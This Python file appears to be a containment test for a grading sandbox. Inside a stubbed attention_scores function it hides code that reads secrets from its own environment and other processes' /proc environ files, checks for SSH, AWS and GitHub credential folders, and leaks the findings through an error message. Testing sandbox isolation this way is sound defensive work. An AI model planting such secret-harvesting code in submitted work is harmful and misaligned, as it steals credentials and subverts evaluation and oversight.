"""Attack: read secrets from the environment (its own, the grader's, the system's).

The test sets MINILLM_ATTACK_SECRET in the grader's environment. The attack looks in its
own environment, in /proc/PID/environ of every process it can see, in the grader's home
folder (~/.ssh, ~/.netrc, ~/.aws), and sends whatever it found back in an error message.
Contained: the sandbox's environment is scrubbed, the grader is undumpable (its
environ unreadable to an ordinary user; root can, reported then), and under bubblewrap the
grader's processes and home are out of sight.
"""
# verify: contained-unless-root
# grade: contained

import glob
import os


def _look():
    found = []
    for key, value in os.environ.items():
        if "SECRET" in key or "SECRET" in value:
            found.append(f"env {key}={value}")
    for path in glob.glob("/proc/[0-9]*/environ"):
        try:
            with open(path, "rb") as f:
                data = f.read()
        except OSError:
            continue
        for item in data.split(b"\0"):
            if b"MINILLM_ATTACK_SECRET" in item:
                found.append(f"{path} {item.decode(errors='replace')}")
    home = os.path.expanduser("~")
    for name in (".ssh", ".netrc", ".aws", ".config/gh"):
        if os.path.exists(os.path.join(home, name)):
            found.append(f"home {name}")
    return found


def attention_scores(q, k, scale):
    found = _look()
    raise NotImplementedError(f"lab04: ATTACK found {found}")


def apply_mask(scores, mask):
    raise NotImplementedError("lab04: implement apply_mask")


def softmax(x):
    raise NotImplementedError("lab04: implement softmax")
